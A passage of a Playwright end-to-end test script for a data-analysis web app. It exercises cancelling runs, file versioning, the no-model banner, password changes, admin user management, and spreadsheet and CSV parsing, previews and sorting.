      expect((await dialog.count()) === 0, 'no dialog while typing');
      await composer().fill('');
    });

    await test('Esc stops a running question (not while Esc closes a dialog); ? lists it', async () => {
      // The step sleeps far longer than the test needs: on a busy machine the worker and the stream can take a while.
      await script([{ thought: 'This takes a while.', code: 'import time\ntime.sleep(120)\nprint("late")' }, { final: 'never' }], 0.02);
      await ask('Do something slow, then let me stop it.');
      const run = lastRun();
      await run.getByTestId('code').filter({ hasText: 'time.sleep' }).first().waitFor({ timeout: 60_000 });
      await page.evaluate(() => document.activeElement instanceof HTMLElement && document.activeElement.blur());
      await page.keyboard.press('?');
      const dialog = page.getByRole('dialog', { name: 'Keyboard shortcuts' });
      await dialog.getByText('Stop the running question').waitFor();
      await page.keyboard.press('Escape');
      await dialog.waitFor({ state: 'detached' });
      // That Esc closed the dialog only: the run goes on.
      expect((await page.getByRole('button', { name: 'Stop the running query' }).count()) === 1, 'the run is still live after closing the dialog');
      expect((await run.getByText('Cancelled').count()) === 0, 'the run was not cancelled by closing the dialog');
      await composer().focus();
      await page.keyboard.press('Escape');
      await run.getByText('Cancelled').waitFor({ timeout: 30_000 });
      await page.getByRole('button', { name: 'Stop the running query' }).waitFor({ state: 'detached' });
      // The session goes on, and its last run has an answer again (later tests read it).
      await script([{ final: 'Done after the stop.' }], 0.01);
      await ask('And now?');
      await lastRun().getByTestId('final-answer').filter({ hasText: 'Done after the stop.' }).waitFor();
    });

    await test('a long step shows what it prints as it comes, and how long it has been running', async () => {
      await script([{ thought: 'A long loop.', code: 'import time\nprint("chunk 1 of 2")\ntime.sleep(60)\nprint("chunk 2 of 2")' }, { final: 'never' }], 0.02);
      await ask('Work through the chunks, slowly.');
      const run = lastRun();
      const step = run.getByTestId('step-card').last();
      // Printed before the step sleeps a minute: it shows while the step still runs.
      await step.getByTestId('step-output').filter({ hasText: 'chunk 1 of 2' }).waitFor({ timeout: 30_000 });
      await step.getByTestId('step-elapsed').filter({ hasText: /running for \d+ s/ }).waitFor({ timeout: 30_000 });
      const printed = await step.getByTestId('step-output').innerText();
      expect(printed.includes('chunk 1 of 2') && !printed.includes('chunk 2 of 2'), `the rest comes only when the code prints it: ${printed}`);
      expect((await page.getByRole('button', { name: 'Stop the running query' }).count()) === 1, 'the step is still running');
      await shot('67-step-output-as-it-comes');
      await page.getByRole('button', { name: 'Stop the running query' }).click();
      await run.getByText('Cancelled').waitFor({ timeout: 30_000 });
      // The session's last run has an answer again (later tests read it).
      await script([{ final: 'Done after the stop.' }], 0.01);
      await ask('And now?');
      await lastRun().getByTestId('final-answer').filter({ hasText: 'Done after the stop.' }).waitFor();
    });

    await test('re-upload a file: v2, its versions, and the earlier answer says it changed', async () => {
      const session = page.url();
      await page.getByRole('main').locator('header').getByRole('link', { name: 'Sales 2026' }).click();
      await page.getByTestId('project-title').filter({ hasText: 'Sales 2026' }).waitFor();
      const row = page.getByRole('listitem').filter({ has: page.getByRole('button', { name: /^sales\.csv/ }) });
      expect((await row.getByTestId('file-version').innerText()) === 'v1', 'the first upload is v1');
      const rows = ['region,units,price'];
      for (let i = 1; i <= 32; i++) rows.push(`r${i % 4},${i},${i * 3}.5`);
      await page.getByTestId('file-input').setInputFiles({ name: 'sales.csv', mimeType: 'text/csv', buffer: Buffer.from(rows.join('\n') + '\n') });
      // The same name asks first, naming the file and saying the old version stays.
      const confirm = page.getByRole('dialog', { name: 'Replace sales.csv?' });
      await confirm.waitFor();
      const said = await confirm.innerText();
      expect(said.includes('This project already has sales.csv (v1). The upload becomes v2') && said.includes('v1 stays available'), `the dialog says: ${said}`);
      // (The dialog hides the page from the accessibility tree: the row is found by its test id.)
      const v = await page.locator('[data-testid=file-row][data-file="sales.csv"]').getByTestId('file-version').innerText();
      expect(v === 'v1', `nothing is replaced before the user says so: ${v}`);
      await settle(page, 300);
      await shot('40b-replace-confirm');
      // The theme menu is behind the dialog: dark as the theme applies it, for the screenshot.
      await page.evaluate(() => document.documentElement.classList.add('dark'));
      await page.setViewportSize({ width: 390, height: 844 });
      await settle(page, 300);
      await shot('40c-replace-confirm-narrow-dark');
      await page.setViewportSize({ width: 1440, height: 900 });
      await page.evaluate(() => document.documentElement.classList.remove('dark'));
      await confirm.getByRole('button', { name: 'Upload as v2' }).click();
      await row.getByTestId('file-version').filter({ hasText: 'v2' }).waitFor();
      await row.getByRole('button', { name: 'Versions of sales.csv' }).click();
      const versions = page.getByRole('list', { name: 'Versions of sales.csv' });
      await versions.getByRole('listitem').nth(1).waitFor();
      const listed = await versions.getByRole('listitem').evaluateAll((els) => els.map((e) => e.getAttribute('data-version')));
      expect(JSON.stringify(listed) === '["2","1"]', `the versions listed: ${JSON.stringify(listed)}`);
      const old = await saved(() => versions.getByRole('button', { name: 'Download version 1 of sales.csv' }).click());
      expect(old.bytes.toString('utf8').split('\n').filter(Boolean).length === 31, 'version 1 has its 30 rows');
      // Each version says which questions read it: the earlier answers read v1, none has read v2 yet.
      const v1Uses = await versions.locator('[data-version="1"]').getByTestId('version-uses').innerText();
      expect(v1Uses.startsWith('Read by “'), `v1: ${v1Uses}`);
      await versions.locator('[data-version="2"]').getByTestId('version-uses').filter({ hasText: 'No question has read this version.' }).waitFor();
      await settle(page, 300);
      await shot('41-file-versions');
      await chooseTheme(page, 'Dark');
      await page.setViewportSize({ width: 390, height: 844 });
      await versions.evaluate((el) => el.scrollIntoView({ block: 'center' }));
      await settle(page, 300);
      await shot('41b-file-versions-narrow-dark');
      await page.setViewportSize({ width: 1440, height: 900 });
      await chooseTheme(page, 'Light');
      await page.goto(session);
      await page.getByTestId('run').first().getByTestId('final-answer').waitFor();
      const notice = page.getByTestId('run').first().getByTestId('files-changed');
      await notice.filter({ hasText: 'sales.csv changed since this answer (v1 → v2)' }).waitFor();
      await page.getByTestId('run').first().evaluate((el) => el.scrollIntoView({ block: 'start' }));
      await settle(page, 300);
      await shot('42-changed-since');
    });

    await test('the new run view in dark and at 390 px', async () => {
      await chooseTheme(page, 'Dark');
      await page.getByTestId('run').first().evaluate((el) => el.scrollIntoView({ block: 'start' }));
      await settle(page, 500);
      await shot('43-answer-first-dark');
      await page.setViewportSize({ width: 390, height: 844 });
      await settle(page, 500);
      await page.getByTestId('run').first().evaluate((el) => el.scrollIntoView({ block: 'start' }));
      await shot('44-answer-first-narrow-dark');
      await lastRun().evaluate((el) => el.scrollIntoView({ block: 'start' }));
      await shot('44b-runs-narrow-dark');
      await page.setViewportSize({ width: 1440, height: 900 });
      await chooseTheme(page, 'Light');
      await page.setViewportSize({ width: 390, height: 844 });
      await page.getByTestId('run').first().evaluate((el) => el.scrollIntoView({ block: 'start' }));
      await settle(page, 500);
      await shot('44c-answer-first-narrow-light');
      await page.setViewportSize({ width: 1440, height: 900 });
    });

    // Another browser: its own context (cookies, localStorage), its console errors counted with the rest.
    const otherBrowser = async (label) => {
      const ctx = await browser.newContext({ viewport: { width: 1440, height: 900 } });
      const p = await ctx.newPage();
      p.setDefaultTimeout(T);
      p.on('console', (m) => m.type() === 'error' && consoleErrors.push(`console (${label}): ${m.text()}`));
      p.on('pageerror', (e) => consoleErrors.push(`pageerror (${label}): ${e.message}`));
      return { ctx, p };
    };
    const signInAs = async (p, email, password) => {
      await p.getByLabel('Email').fill(email);
      await p.getByLabel('Password').fill(password);
      await p.getByRole('button', { name: 'Sign in' }).click();
    };
    const accountMenu = (p = page) => p.getByRole('button', { name: /^Account: / });
    const narrow = { width: 390, height: 844 };
    const wide = { width: 1440, height: 900 };

    await test('no model configured: a banner says so, and the composer says why it cannot send', async () => {
      const noModel = 'No model is configured: questions cannot be answered until the server sets LLM_MODEL (see the README, Connecting an LLM).';
      await waitFor(`${noModelBase}/readyz`, 120_000);
      const { ctx, p } = await otherBrowser('no model');
      try {
        await p.goto(`${noModelBase}/login`);
        const models = p.waitForResponse((r) => r.url().endsWith('/api/v1/models'));
        await signInAs(p, EMAIL, PASSWORD);
        await p.getByRole('heading', { name: 'Projects' }).waitFor();
        const body = await (await models).json();
        expect(Array.isArray(body.items) && body.items.length === 0, `a backend without LLM_MODEL lists no models: ${JSON.stringify(body)}`);
        const banner = p.getByTestId('model-banner');
        await banner.waitFor();
        const said = await banner.locator('p').innerText();
        expect(said === noModel, `the banner reads ${JSON.stringify(said)}`);
        await snap(p, path.join(SHOTS, '25-no-model-home.png'));

        await p.getByRole('main').getByRole('button', { name: 'New project' }).click();
        await p.getByRole('textbox', { name: 'Name' }).fill('First start');
        await p.getByRole('button', { name: 'Create project' }).click();
        await p.getByTestId('project-title').filter({ hasText: 'First start' }).waitFor();
        await p.getByRole('main').getByRole('button', { name: 'New session' }).click();
        await p.waitForURL('**/sessions/**');
        const reason = p.getByTestId('composer-disabled');
        await reason.filter({ hasText: 'Questions cannot be sent: the server has no model configured (LLM_MODEL).' }).waitFor();
        await p.getByText('What would you like to know?').waitFor();
        expect(await p.getByRole('textbox', { name: 'Ask a question about your data' }).isDisabled(), 'the composer takes no question');
        expect(await p.getByRole('button', { name: 'Send' }).isDisabled(), 'Send is disabled');
        expect((await banner.count()) === 1, 'the banner stays on the session page');
        await snap(p, path.join(SHOTS, '26-no-model-session.png'));
        await chooseTheme(p, 'Dark');
        await settle(p, 300);
        await snap(p, path.join(SHOTS, '26b-no-model-session-dark.png'));
        await p.setViewportSize(narrow);
        await settle(p, 300);
        await snap(p, path.join(SHOTS, '26c-no-model-narrow-dark.png'));
      } finally {
        await ctx.close();
      }
    });

    const NEW_PASSWORD = 'admin-password-2';
    await test('change the password: this login stays, another login goes back to the login page, the new password works', async () => {
      const { ctx, p } = await otherBrowser('second login');
      try {
        await p.goto(`${base}/login`);
        await signInAs(p, EMAIL, PASSWORD);
        await p.getByRole('heading', { name: 'Projects' }).waitFor();

        await accountMenu().click();
        await page.getByRole('menuitem', { name: 'Change password…' }).click();
        const dialog = page.getByRole('dialog', { name: 'Change password' });
        await dialog.getByLabel('Current password').fill(PASSWORD);
        await dialog.getByLabel('New password', { exact: true }).fill(NEW_PASSWORD);
        await dialog.getByLabel('Confirm new password').fill('admin-password-3');
        await dialog.getByRole('button', { name: 'Change password' }).click();
        await dialog.getByRole('alert').filter({ hasText: 'The new password and its confirmation differ.' }).waitFor();
        await dialog.getByLabel('Current password').fill('not-the-password');
        await dialog.getByLabel('Confirm new password').fill(NEW_PASSWORD);
        await dialog.getByRole('button', { name: 'Change password' }).click();
        await dialog.getByRole('alert').filter({ hasText: 'The current password is not right.' }).waitFor();
        await shot('27-change-password-wrong');
        await dialog.getByLabel('Current password').fill(PASSWORD);
        await dialog.getByRole('button', { name: 'Change password' }).click();
        await dialog.getByRole('status').filter({ hasText: 'Password changed; your other logins are signed out.' }).waitFor();
        await shot('27b-password-changed');
        await dialog.getByRole('button', { name: 'Done' }).click();

        // This browser stays in: the new login was stored at once.
        const me = page.waitForResponse((r) => r.url().endsWith('/api/v1/auth/me'));
        await page.reload();
        expect((await me).status() === 200, `after the change this login is still accepted (${(await me).status()})`);
        await lastRun().getByTestId('final-answer').first().waitFor();
        expect(!page.url().endsWith('/login'), 'this login stays signed in');
        // The other one is sent to the login page, saying why.
        await p.reload();
        await p.waitForURL('**/login');
        await p.getByTestId('login-notice').filter({ hasText: 'The password was changed since this login; log in again.' }).waitFor();
        await snap(p, path.join(SHOTS, '28-other-login-dropped.png'));
        await signInAs(p, EMAIL, PASSWORD);
        await p.getByRole('alert').filter({ hasText: 'Wrong email or password.' }).waitFor();
        await signInAs(p, EMAIL, NEW_PASSWORD);
        await p.getByRole('heading', { name: 'Projects' }).waitFor();
      } finally {
        await ctx.close();
      }
    });

    await test('users: an admin creates a user, disables them (their login says so), enables them and resets their password', async () => {
      const ANA = 'ana@example.com';
      const { ctx, p } = await otherBrowser('ana');
      try {
        await accountMenu().click();
        await page.getByRole('menuitem', { name: 'Users' }).click();
        await page.waitForURL('**/admin/users');
        await page.getByRole('heading', { name: 'Users' }).waitFor();
        const row = (email) => page.locator(`[data-testid=user-row][data-email="${email}"]`);
        const own = row(EMAIL);
        await own.getByText('You').waitFor();
        for (const [name, why] of [
          ['Disable', 'You cannot disable your own account; another administrator can.'],
          ['Remove admin', 'You cannot remove your own administrator role; another administrator can.'],
        ]) {
          const button = own.getByRole('button', { name });
          expect(await button.isDisabled(), `${name} is disabled on the admin's own row`);
          expect((await button.getAttribute('title')) === why, `${name} says why: ${await button.getAttribute('title')}`);
        }

        // Ana's account comes from the API with a password of her own (the dialog's invite and
        // generated-password ways are signin.mjs's tests): no one types her password in a dialog.
        const made = await page.evaluate(async (email) => {
          const token = JSON.parse(localStorage.getItem('wb.auth')).token;
          const r = await fetch('/api/v1/users', {
            method: 'POST',
            headers: { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json' },
            body: JSON.stringify({ email, password: 'ana-password-1' }),
          });
          return r.status;
        }, ANA);
        expect(made === 201, `the API made Ana's account: ${made}`);
        await page.reload();
        await row(ANA).getByText('Active').waitFor();
        // The same email again in the dialog: the server's sentence, in the dialog.
        await page.getByRole('button', { name: 'New user' }).click();
        const create = page.getByRole('dialog', { name: 'New user' });
        await create.getByLabel('Email').fill(ANA);
        await create.getByRole('radio', { name: 'Generated password' }).click();
        await shot('29-new-user');
        await create.getByRole('button', { name: 'Create user' }).click();
        await create.getByRole('alert').filter({ hasText: `A user with email ${ANA} already exists.` }).waitFor();
        await create.getByRole('button', { name: 'Cancel' }).click();

        await p.goto(`${base}/login`);
        await signInAs(p, ANA, 'ana-password-1');
        await p.getByRole('heading', { name: 'Projects' }).waitFor();
        await accountMenu(p).click();
        await p.getByRole('menuitem', { name: 'Change password…' }).waitFor();
        expect((await p.getByRole('menuitem', { name: 'Users' }).count()) === 0, 'a user who is not an admin has no users screen');
        await p.keyboard.press('Escape');

        await row(ANA).getByRole('button', { name: 'Disable' }).click();
        const confirm = page.getByRole('dialog', { name: 'Disable this account?' });
        await confirm.getByText(`${ANA} will be signed out everywhere`).waitFor();
        await shot('30-confirm-disable');
        await confirm.getByRole('button', { name: 'Disable' }).click();
        await page.getByTestId('users-notice').filter({ hasText: `${ANA} is disabled: their logins and API tokens are refused.` }).waitFor();
        await row(ANA).getByText('Disabled').waitFor();
        await shot('31-users-disabled');

        const disabled = 'This account is disabled; ask an administrator to enable it.';
        await p.reload();
        await p.waitForURL('**/login');
        await p.getByTestId('login-notice').filter({ hasText: disabled }).waitFor();
        await signInAs(p, ANA, 'ana-password-1');
        await p.getByRole('alert').filter({ hasText: disabled }).waitFor();
        await snap(p, path.join(SHOTS, '31b-disabled-login.png'));

        await row(ANA).getByRole('button', { name: 'Enable' }).click();
        await page.getByTestId('users-notice').filter({ hasText: `${ANA} can sign in again.` }).waitFor();
        await row(ANA).getByText('Active').waitFor();
        await row(ANA).getByRole('button', { name: 'Reset password' }).click();
        const reset = page.getByRole('dialog', { name: 'Reset password' });
        await reset.getByText('Their logins end at once').waitFor();
        await reset.getByRole('button', { name: 'Generate new password' }).click();
        const generated = await reset.getByTestId('generated-password').inputValue();
        expect(generated.length >= 12, 'a generated password is shown once');
        await shot('32-reset-password');
        await reset.getByRole('button', { name: 'Done' }).click();
        await reset.waitFor({ state: 'detached' });
        await page.getByTestId('users-notice').filter({ hasText: `New password generated for ${ANA}.` }).waitFor();

        await signInAs(p, ANA, 'ana-password-1');
        await p.getByRole('alert').filter({ hasText: 'Wrong email or password.' }).waitFor();
        await signInAs(p, ANA, generated);
        // A generated password must be changed before anything else.
        await p.getByText('Choose your own password').first().waitFor();

        // The screen in light, dark and a phone-sized window, and its dialogs there. The theme menu
        // lives in the sidebar, which a narrow window folds away: the theme is switched while wide.
        await settle(page, 300);
        await shot('33-users-light');
        await page.setViewportSize(narrow);
        await settle(page, 300);
        await shot('33b-users-narrow-light');
        await page.getByRole('button', { name: 'Open navigation' }).click();
        await accountMenu().click();
        await page.getByRole('menuitem', { name: 'Change password…' }).waitFor();
        await settle(page, 300);
        await shot('34-narrow-account-menu');
        await page.getByRole('menuitem', { name: 'Change password…' }).click();
        const change = page.getByRole('dialog', { name: 'Change password' });
        await change.getByLabel('Current password').waitFor();
        await settle(page, 300);
        await shot('34b-narrow-change-password');
        await page.keyboard.press('Escape');
        await change.waitFor({ state: 'detached' });
        await page.keyboard.press('Escape');
        await page.getByRole('dialog').waitFor({ state: 'detached' });

        await page.setViewportSize(wide);
        await chooseTheme(page, 'Dark');
        await settle(page, 300);
        await shot('33c-users-dark');
        await accountMenu().click();
        await page.getByRole('menuitem', { name: 'Change password…' }).click();
        await change.getByLabel('Current password').waitFor();
        await settle(page, 300);
        await shot('34c-change-password-dark');
        await page.keyboard.press('Escape');
        await change.waitFor({ state: 'detached' });
        await page.setViewportSize(narrow);
        await settle(page, 300);
        await shot('33d-users-narrow-dark');
        await row(ANA).getByRole('button', { name: 'Reset password' }).click();
        await reset.getByRole('button', { name: 'Generate new password' }).waitFor();
        await settle(page, 300);
        await shot('33e-reset-narrow-dark');
        await page.keyboard.press('Escape');
        await reset.waitFor({ state: 'detached' });
        await page.setViewportSize(wide);
        await chooseTheme(page, 'Light');
      } finally {
        await ctx.close();
      }
    });

    // A two-sheet workbook, written by the backend's own pandas (no spreadsheet library here).
    const workbookBytes = () => {
      const code = [
        'import io, sys, pandas as pd',
        'b = io.BytesIO()',
        'with pd.ExcelWriter(b) as w:',
        '    pd.DataFrame({"region": ["North", "South"], "units": [10, 30]}).to_excel(w, sheet_name="Sales", index=False)',
        '    pd.DataFrame({"item": ["pen", "ink", "pen"], "cost": [1.5, 2.0, 4.0]}).to_excel(w, sheet_name="Costs", index=False)',
        'sys.stdout.buffer.write(b.getvalue())',
      ].join('\n');
      const out = spawnSync('uv', ['run', 'python', '-c', code], { cwd: BACKEND, maxBuffer: 1 << 20 });
      if (out.status !== 0) throw new Error(`could not write the workbook: ${out.stderr}`);
      return out.stdout;
    };

    await test('datasets: a bad file is marked with its sentence, sheets switch, decimal commas and dates are read, columns are profiled', async () => {
      await page.getByRole('navigation').getByText('Sales 2026').first().click();
      await page.getByTestId('project-title').filter({ hasText: 'Sales 2026' }).waitFor();
      const noise = randomBytes(4096);
      noise[100] = 0; // random bytes, with at least one NUL as binary files have
      await page.getByTestId('file-input').setInputFiles([
        { name: 'book.xlsx', mimeType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', buffer: workbookBytes() },
        { name: 'ventes.csv', mimeType: 'text/csv', buffer: Buffer.from('ville;montant;jour\nLyon;1.234,56;31/01/2026\nMetz;12,5;01/02/2026\nLyon;-3;\n') },
        { name: 'random.csv', mimeType: 'text/csv', buffer: noise },
      ]);
      const fileRow = (name) => page.locator(`[data-testid=file-row][data-file="${name}"]`);
      const problem = 'random.csv does not look like a text file';
      const marker = fileRow('random.csv').getByTestId('file-check');
      await marker.waitFor();
      expect((await marker.getAttribute('data-check')) === 'unreadable', 'random.csv is marked unreadable');
      expect((await marker.getAttribute('title')) === problem, `the marker's tooltip is the sentence: ${await marker.getAttribute('title')}`);
      expect((await fileRow('ventes.csv').getByTestId('file-check').count()) === 0, 'a good CSV has no marker');
      await fileRow('random.csv').getByRole('button', { expanded: false }).first().click();
      await fileRow('random.csv').getByTestId('file-problem').filter({ hasText: problem }).waitFor();
      await fileRow('random.csv').getByRole('button', { expanded: true }).click();

      // The workbook: a tab per sheet, each showing its own rows; then its columns' profile.
      const book = fileRow('book.xlsx');
      await book.getByRole('button', { expanded: false }).first().click();
      const sheets = book.getByRole('tablist', { name: 'Sheets of book.xlsx' });
      await sheets.getByRole('tab', { name: 'Costs' }).waitFor();
      const tabs = await sheets.getByRole('tab').allInnerTexts();
      expect(JSON.stringify(tabs) === '["Sales","Costs"]', `the sheet tabs: ${JSON.stringify(tabs)}`);
      const bookTable = book.getByTestId('data-table');
      await bookTable.getByText('North').waitFor();
      await sheets.getByRole('tab', { name: 'Costs' }).click();
      await bookTable.getByText('ink').waitFor();
      expect((await bookTable.getByText('North').count()) === 0, 'the Costs tab shows its own rows only');
      await settle(page, 300);
      await shot('50-datasets-sheets');
      await book.getByRole('tab', { name: 'Columns' }).click();
      await book.getByTestId('profile-coverage').filter({ hasText: 'All 3 rows profiled.' }).waitFor();
      const cost = await book.locator('[data-column=cost] [data-testid=profile-values]').innerText();
      expect(cost.replace(/\s+/g, ' ') === 'min 1.5 · mean 2.5 · max 4', `the cost column's range: ${cost}`);
      const item = await book.locator('[data-column=item] [data-testid=profile-values]').innerText();
      expect(item.replace(/\s+/g, ' ').includes('pen ×2') && item.includes('ink ×1'), `the item column's top values: ${item}`);
      await sheets.getByRole('tab', { name: 'Sales' }).click();
      await book.locator('[data-column=units] [data-testid=profile-values]').filter({ hasText: 'mean 20' }).waitFor();
      await book.getByRole('button', { expanded: true }).first().click();

      // The semicolon CSV: numbers with decimal commas, dates, and how it was read.
      const ventes = fileRow('ventes.csv');
      await ventes.getByRole('button', { expanded: false }).first().click();
      const table = ventes.getByTestId('data-table');
      await table.getByText('1,234.56').waitFor();
      expect((await table.getByText('float64').count()) === 1, 'montant is float64');
      expect((await table.getByText(/^datetime64/).count()) === 1, 'jour is a datetime');
      await table.getByText('2026-01-31').waitFor();
      const format = await ventes.getByTestId('file-format').innerText();
      expect(format.includes('Separated by “;”') && format.includes('decimal comma'), `how it was read: ${format}`);
      await ventes.getByRole('tab', { name: 'Columns' }).click();
      await ventes.getByTestId('profile').waitFor();
      const montant = await ventes.locator('[data-column=montant] [data-testid=profile-values]').innerText();
      expect(montant.replace(/\s+/g, ' ') === 'min -3 · mean 414.6867 · max 1,234.56', `montant's range: ${montant}`);
      const missing = await ventes.locator('[data-column=jour] [data-testid=profile-missing]').innerText();
      expect(missing === '1 (33%)', `jour's missing days: ${missing}`);
      await settle(page, 300);
      await shot('51-datasets-profile');
      await chooseTheme(page, 'Dark');
      await settle(page, 500);
      await shot('52-datasets-profile-dark');
      await page.setViewportSize({ width: 390, height: 844 });
      await settle(page, 500);
      await shot('53-datasets-narrow-dark');
      await ventes.getByRole('tab', { name: 'Rows' }).click();
      await fileRow('random.csv').evaluate((el) => el.scrollIntoView({ block: 'start' }));
      await settle(page, 300);
      await shot('54-datasets-narrow-rows-dark');
      await page.setViewportSize({ width: 1440, height: 900 });
      await chooseTheme(page, 'Light');
      await page.setViewportSize({ width: 390, height: 844 });
      await fileRow('random.csv').evaluate((el) => el.scrollIntoView({ block: 'start' }));
      await settle(page, 500);
      await shot('55-datasets-narrow-rows-light');
      await page.setViewportSize({ width: 1440, height: 900 });
    });

    await test('a preview pages and sorts the whole file, under the header row found below its title rows', async () => {
      // 240 products under two title rows; the dearest (119.04, row 180) is far past the first page.
      const lines = ['Price list', 'Exported for the e2e test', 'id,product,price'];
      for (let i = 0; i < 240; i++) lines.push(`${i},item ${String(i).padStart(3, '0')},${i === 180 ? '119.04' : (((i * 37) % 100) + 0.5).toFixed(2)}`);
      await page.getByTestId('file-input').setInputFiles({ name: 'prices.csv', mimeType: 'text/csv', buffer: Buffer.from(lines.join('\n') + '\n') });
      const prices = page.locator('[data-testid=file-row][data-file="prices.csv"]');
      await prices.getByRole('button', { expanded: false }).first().click();
      const table = prices.getByTestId('data-table');
      const indicator = table.getByTestId('page-indicator');
      await indicator.filter({ hasText: 'Page 1 of 5' }).waitFor();
      await prices.getByTestId('header-found').filter({ hasText: '(found under 2 title rows)' }).waitFor();
      const firstCell = () => table.locator('tbody tr').first().locator('td').first().innerText();
      await table.getByRole('button', { name: 'Next page' }).click();
      await indicator.filter({ hasText: 'Page 2 of 5' }).waitFor();
      await table.getByRole('button', { name: 'Next page' }).click();
      await indicator.filter({ hasText: 'Page 3 of 5' }).waitFor();
      await table.getByTestId('row-range').filter({ hasText: 'Rows 101–150 of 240' }).waitFor();
      await table.locator('tbody tr').first().locator('td').first().filter({ hasText: /^100$/ }).waitFor();
      await prices.evaluate((el) => el.scrollIntoView({ block: 'start' }));
      await settle(page, 300);
      await shot('56-preview-page-3');
      // Sorting asks the server to sort every row: the dearest product of the whole file comes first.
      await table.getByRole('button', { name: 'Sort by price' }).click();
      await table.getByTestId('row-range').filter({ hasText: 'smallest first' }).waitFor();
      await table.getByRole('button', { name: 'Sort by price' }).click();
      await table.getByTestId('row-range').filter({ hasText: 'largest first' }).waitFor();
      await table.locator('tbody tr').first().filter({ hasText: '119.04' }).waitFor();
      await indicator.filter({ hasText: 'Page 1 of 5' }).waitFor();
      expect((await firstCell()) === '180', `the dearest is row 180: ${await firstCell()}`);
      const prices50 = await table.locator('tbody tr td:nth-child(3)').allInnerTexts();
      expect(prices50.length === 50 && prices50[1] === '99.5', `then the next dearest: ${prices50.slice(0, 3)}`);
      await settle(page, 300);
      await shot('57-preview-sorted');
      await chooseTheme(page, 'Dark');
      await settle(page, 500);
      await shot('58-preview-sorted-dark');
      await page.setViewportSize({ width: 390, height: 844 });
      await prices.evaluate((el) => el.scrollIntoView({ block: 'start' }));
      await settle(page, 500);
      await shot('59-preview-sorted-narrow-dark');
      await page.setViewportSize({ width: 1440, height: 900 });
      await chooseTheme(page, 'Light');
      await page.setViewportSize({ width: 390, height: 844 });
      await prices.evaluate((el) => el.scrollIntoView({ block: 'start' }));
      await settle(page, 500);
      await shot('60-preview-sorted-narrow-light');
      await page.setViewportSize({ width: 1440, height: 900 });
      await prices.getByRole('button', { expanded: true }).first().click();
    });

    await test('a real-world workbook: title rows skipped, amounts, percents, yes/no and dates read as such', async () => {
      const code = [
        'import io, sys, datetime as dt',
        'from openpyxl import Workbook',
        'book = Workbook(); sheet = book.active; sheet.title = "Q1"',
        'sheet.append(["ACME Corp: revenue by deal"]); sheet.append(["Prepared by finance, March 2024"])',
        'sheet.append(["Deal", "Amount", "Margin", "Won", "Closed"])',
        'sheet.append(["Alpha", "€1,058.58", "12.5%", "Y", dt.datetime(2024, 3, 1)])',
        'sheet.append(["Beta", "€2,400.00", "7%", "N", dt.datetime(2024, 3, 2)])',
        'sheet.append(["Gamma", "€310.10", "30%", "Yes", dt.datetime(2024, 3, 15)])',
        'b = io.BytesIO(); book.save(b); sys.stdout.buffer.write(b.getvalue())',
      ].join('\n');
      const out = spawnSync('uv', ['run', 'python', '-c', code], { cwd: BACKEND, maxBuffer: 1 << 20 });
      if (out.status !== 0) throw new Error(`could not write the workbook: ${out.stderr}`);
      await page.getByTestId('file-input').setInputFiles({ name: 'deals.xlsx', mimeType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', buffer: out.stdout });
      const deals = page.locator('[data-testid=file-row][data-file="deals.xlsx"]');
      await deals.getByRole('button', { expanded: false }).first().click();
      const table = deals.getByTestId('data-table');
      await deals.getByTestId('header-found').filter({ hasText: '(found under 2 title rows)' }).waitFor();
      const first = await table.locator('tbody tr').first().locator('td').allInnerTexts();
      expect(JSON.stringify(first) === JSON.stringify(['Alpha', '€1,058.58', '12.5%', 'yes', '2024-03-01']), `the first deal: ${JSON.stringify(first)}`);
      const types = await table.getByTestId('column-type').allInnerTexts();
      expect(types.join(' | ') === 'text str | number · € float64 | number · % float64 | yes/no bool | date datetime64[us]', `the types: ${types.join(' | ')}`);
      await table.getByRole('button', { name: 'Sort by Amount' }).click();
      await table.getByRole('button', { name: 'Sort by Amount' }).click();
      await table.locator('tbody tr').first().filter({ hasText: '€2,400' }).waitFor();
      await deals.evaluate((el) => el.scrollIntoView({ block: 'start' }));
      await settle(page, 300);
      await shot('62-real-world-workbook');
      // The first row as the header: the sheet as it is, title and all.
      await deals.getByTestId('header-row').locator('select').selectOption('0');
      await table.getByRole('button', { name: 'Sort by ACME Corp: revenue by deal' }).waitFor();
      await deals.getByTestId('header-row').getByRole('button', { name: 'detect' }).click();
      await table.getByRole('button', { name: 'Sort by Deal' }).waitFor();
      await deals.getByRole('button', { expanded: true }).first().click();
    });

    await test('on a phone: the session title whole, no Enter hint, no toolbar over the chart; files sorted by name; the system theme followed', async () => {
      // Names a person sorts "big.csv" before "Q3 report.csv", "week 2" before "week 10".
      for (const name of ['Q3 report.csv', 'big.csv', 'week 10.csv', 'week 2.csv']) {
        await page.getByTestId('file-input').setInputFiles({ name, mimeType: 'text/csv', buffer: Buffer.from('a,b\n1,2\n') });
        await page.locator(`[data-testid=file-row][data-file="${name}"]`).waitFor();
      }
      const names = await page.getByTestId('file-row').evaluateAll((rows) => rows.map((r) => r.dataset.file));
      const collator = new Intl.Collator('en', { numeric: true, sensitivity: 'base' });
      expect(JSON.stringify(names) === JSON.stringify([...names].sort(collator.compare)), `the files are listed by name: ${JSON.stringify(names)}`);
      expect(names.indexOf('big.csv') < names.indexOf('Q3 report.csv') && names.indexOf('week 2.csv') < names.indexOf('week 10.csv'), `big before Q3, 2 before 10: ${names}`);
      await shot('61-files-sorted-by-name');

      await page.setViewportSize(narrow);
      await page.goto(chartSession);
      const title = page.getByTestId('session-title');
      await title.filter({ hasText: 'Which region has the most revenue?' }).waitFor();
      const clipped = await title.evaluate((el) => el.scrollWidth > el.clientWidth + 1 || el.scrollHeight > el.clientHeight + 1);
      expect(!clipped, 'the session title is shown whole on a phone');
      const placeholder = await composer().getAttribute('placeholder');
      expect(placeholder === 'Ask a question about your data…', `no Enter hint on a phone: ${placeholder}`);
      // The session's first answer is the one with the chart (retries and edits came after it).
      const chart = page.getByTestId('run').first().getByTestId('run-result').getByTestId('artifact-plotly');
      await chart.locator('.js-plotly-plot .main-svg').first().waitFor({ timeout: 40_000 });
      expect((await chart.locator('.modebar').count()) === 0, "no Plotly toolbar over the chart's title on a phone");
      await chart.evaluate((el) => el.scrollIntoView({ block: 'center' }));
      await settle(page, 500);
      await shot('62-phone-chart-light');
      await page.evaluate(() => window.scrollTo(0, 0));
      await page.locator('main header').first().evaluate((el) => el.scrollIntoView({ block: 'start' }));
      await shot('62b-phone-title-light');

      // No theme chosen: the app follows the system's, as it changes, without a reload.
